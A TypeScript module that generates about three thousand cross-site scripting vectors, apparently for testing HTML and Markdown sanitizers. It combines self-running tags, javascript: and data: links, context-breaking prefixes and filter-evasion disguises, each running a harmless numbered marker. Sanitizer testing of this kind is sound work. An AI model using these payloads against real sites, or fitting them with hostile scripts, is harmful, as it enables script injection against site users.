/** What runs when a vector does: it tells its number. */
const call = (n: number) => `zz(${n})`;

/** Markup that runs a script by itself in a page that takes it as it is. */
const ACTIVE: readonly ((code: string) => string)[] = [
  (code) => `<img src=x onerror=${code}>`,
  (code) => `<img src=x onerror="${code}">`,
  (code) => `<img src=x:x onerror='${code}' alt=a>`,
  (code) => `<svg onload=${code}>`,
  (code) => `<svg><g onload="${code}"></g></svg>`,
  (code) => `<svg><animate onbegin=${code} attributeName=x dur=1s>`,
  (code) => `<svg><set onbegin=${code} attributename=x>`,
  (code) => `<svg><script>${code}</script></svg>`,
  (code) => `<script>${code}</script>`,
  (code) => `<script src="data:text/javascript,${code}"></script>`,
  (code) => `<body onload=${code}>`,
  (code) => `<body onpageshow=${code}>`,
  (code) => `<input autofocus onfocus=${code}>`,
  (code) => `<select autofocus onfocus=${code}></select>`,
  (code) => `<textarea autofocus onfocus=${code}></textarea>`,
  (code) => `<details open ontoggle=${code}>`,
  (code) => `<video><source onerror="${code}">`,
  (code) => `<video src=x onerror=${code}></video>`,
  (code) => `<audio src=x onerror=${code}></audio>`,
  (code) => `<iframe src="javascript:parent.${code}"></iframe>`,
  (code) => `<iframe srcdoc="<script>parent.${code}</script>"></iframe>`,
  (code) => `<iframe onload=${code}></iframe>`,
  (code) => `<object data="javascript:${code}"></object>`,
  (code) => `<object data=x onerror=${code}></object>`,
  (code) => `<embed src="javascript:${code}">`,
  (code) => `<link rel=stylesheet href=x onerror=${code}>`,
  (code) => `<style onload=${code}></style>`,
  (code) => `<style>@keyframes x{}</style><b style="animation-name:x" onanimationstart="${code}"></b>`,
  (code) => `<marquee onstart=${code}>x</marquee>`,
  (code) => `<meta http-equiv=refresh content="0;url=javascript:${code}">`,
  (code) => `<math><maction actiontype="statusline#x" href="javascript:${code}">x</maction></math>`,
  (code) => `<p contenteditable autofocus tabindex=0 onfocus=${code}>`,
  (code) => `<section data-background-iframe="javascript:${code}">x</section>`,
  (code) => `<section data-markdown><script type="text/template"><img src=x onerror=${code}></script></section>`,
  (code) => `<iframe data-src="javascript:${code}" data-preload></iframe>`,
];

/** Links, as sources write them. */
const LINKS: readonly ((code: string) => string)[] = [
  (code) => `[x](javascript:${code})`,
  (code) => `[x](JaVaScRiPt:${code})`,
  (code) => `[x](&#106;avascript:${code})`,
  (code) => `[x](java&#10;script:${code})`,
  (code) => `[x](\u0001javascript:${code})`,
  (code) => `[x](vbscript:${code})`,
  (code) => `[x](data:text/html,<script>${code}</script>)`,
  (code) => `<javascript:${code}>`,
  (code) => `![x](x"onerror="${code})`,
  (code) => `![x](x 'onerror=${code} a=')`,
  (code) => `<a href="javascript:${code}" autofocus onfocus=${code}>x</a>`,
  (code) => `<a href="java\tscript:${code}">x</a>`,
  (code) => `<a data-preview-link="javascript:${code}" href="#">x</a>`,
  (code) => `<form action="javascript:${code}"><button autofocus onfocus=${code}>x</button></form>`,
];

/** What gets a text out of where it was put. */
const BREAKS: readonly string[] = [
  '',
  '">',
  "'>",
  '-->',
  ']]>',
  '</script>',
  '</title>',
  '</style>',
  '</textarea>',
  '</noscript>',
  '</section></aside>',
  '<svg></p><style><a id="</style>',
  '<math><mtext><table><mglyph><style><!--</style>',
  '<noscript><p title="</noscript>',
  '<!--><!-- -->',
  '${',
  '\\"}</script>',
];

/** The same, written as filters overlook it. */
const DISGUISES: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => text.replace(/on(?=[a-z]+=)/g, 'oN').replace(/<(\w)/g, (_, first: string) => `<${first.toUpperCase()}`),
  (text) => text.replaceAll(' on', '/on'),
  (text) => text.replaceAll(' on', '\n\ton'),
  (text) => text.replace(/>$/, ''),
  (text) => `<${text}`,
  (text) => text.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
];

/** Some three thousand texts that run `zz(n)` in a page that trusts them, each with a number of its own. */
export function vectors(): readonly string[] {
  let n = 0;
  const links = LINKS.flatMap((link) => BREAKS.slice(0, 4).map((end) => end + link(call(n++))));
  const active = ACTIVE.flatMap((make) => {
    const broken = BREAKS.map((end) => end + make(call(n++)));
    const disguised = DISGUISES.slice(1).flatMap((as) => BREAKS.slice(0, 11).map((end) => end + as(make(call(n++)))));
    return [...broken, ...disguised];
  });
  return [...active, ...links];
}
